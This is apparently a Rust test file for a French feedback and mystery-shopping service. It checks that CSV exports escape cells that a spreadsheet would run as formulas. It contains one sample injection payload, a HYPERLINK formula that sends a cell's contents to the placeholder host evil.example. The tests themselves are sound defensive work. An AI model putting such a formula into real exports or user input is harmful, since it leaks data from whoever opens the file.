//! The exports as a spreadsheet opens them: whatever a visitor or a shopper typed, no cell
//! begins with a formula (`=`, `+`, `-`, `@`, a tab or a carriage return).

use crate::common::{Api, open_session, revision_of};
use domain::Role;
use reqwest::StatusCode;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";

/// The cells of a CSV export, unquoted.
fn cells(csv: &[u8]) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv)
        .records()
        .flatten()
        .flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn no_formula(cells: &[String]) {
    for cell in cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
}

async fn a_visitors_formula_is_exported_as_text(api: Api) {
    let answer = api
        .post_as(
            "/q/belfort-accueil",
            None,
            &[
                ("idem", "formula-answer-1"),
                ("lang", "fr"),
                ("q_overall", "very_good"),
                ("q_courtesy", "4"),
                ("q_wait", "lt10"),
                ("q_resolved", "yes"),
                ("q_comment", FORMULA),
            ],
        )
        .await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    let code = domain::TouchpointCode::parse("belfort-accueil").expect("code");
    let mut csv = Vec::new();
    server::export::responses::write_responses(&api.db, Some(&code), &mut csv)
        .await
        .expect("export");
    let cells = cells(&csv);
    assert!(
        cells.contains(&format!("'{FORMULA}")),
        "the comment is there, as text"
    );
    no_formula(&cells);
}
on_both_engines!(responses_export, a_visitors_formula_is_exported_as_text);

async fn a_shoppers_formula_is_exported_as_text(api: Api) {
    let shopper = open_session(&api.db, "formule@example.gouv.fr", Role::Shopper).await;
    let ids = api
        .planned_calls("appels-formules", 1, "formule@example.gouv.fr")
        .await;
    let (path, page) = api.start_test(ids[0], &shopper).await;
    let revision = revision_of(&page);
    let saved = api
        .post_as(
            &path,
            Some(&shopper),
            &[
                ("revision", revision.as_str()),
                ("action", "save"),
                ("performed_at", "2026-11-02T10:15"),
                ("reached", "+33 3 84 57 00 00"),
                ("C01", "yes"),
            ],
        )
        .await;
    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
    let org = db::structure::organisations(&api.db).await.expect("orgs")[0].id;
    let tests = db::mystery::results::campaign_tests(&api.db, org, "appels-formules", false)
        .await
        .expect("tests")
        .expect("campaign");
    let mut csv = Vec::new();
    server::export::mystery::write_tests(&tests, &mut csv).expect("export");
    let cells = cells(&csv);
    assert!(
        cells.contains(&"'+33 3 84 57 00 00".to_owned()),
        "{cells:?}"
    );
    no_formula(&cells);
}
on_both_engines!(tests_export, a_shoppers_formula_is_exported_as_text);
